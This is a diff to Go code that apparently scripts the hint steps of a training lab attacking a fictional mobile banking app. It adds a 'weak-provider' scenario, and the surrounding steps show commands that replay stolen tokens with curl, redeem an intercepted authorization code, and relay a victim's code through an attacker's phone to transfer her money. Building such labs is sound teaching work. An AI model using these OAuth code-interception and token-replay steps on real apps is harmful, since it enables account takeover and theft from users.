@@ -264,6 +264,12 @@ var byName = map[string][]step{
 		say("Transfer the victim's money to your own account: `{curl} -H @loot/integrity.txt -H @stolen.txt --json '{rob}' {api}/v1/transfers`.").at(inRequests),
 		say("That is the hash of the verifier. Try it in its place, with the client integrity token of your own app: `{curl} -H @loot/integrity.txt -d grant_type=authorization_code -d redirect_uri=com.harbourbank.app:/callback --data-urlencode \"code=$(cat code.txt)\" --data-urlencode \"code_verifier=$(cat verifier.txt)\" {tokens}/token`. Nothing fits the hash but the verifier, which is in the memory of the victim's app.").at(hashedInRequests),
 	),
+	"weak-provider": steps(
+		thePackage, theThief(" --provider lite"),
+		say("Begin to sign in with the genuine app on your own phone, open it with a link that carries its own state and the victim's code, and transfer the victim's money: `mobileclient --phone relay-{stage} --stage {stage} --provider lite --relay-code \"$(cat code.txt)\" transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`.").at(inURLs),
+		passwordOf("mallory").at(pushes),
+		say("Begin to sign in with the genuine app on your own phone. Its state is in no address but the one that leads back, so sign in there, keep that link from the app, and open the app with one that carries its own state and the victim's code: `mobileclient --phone relay-{stage} --stage {stage} --user mallory --password-file mallory.txt --provider lite --relay-code \"$(cat code.txt)\" transfer --from HB-1001 --to HB-3001 --amount 1.00 --reference {attack}`. The code is bound to a verifier that the victim's app has made up, and to her phone.").at(pushes),
+	),
 	"refresh-reuse": steps(
 		theCA,
 		backup,
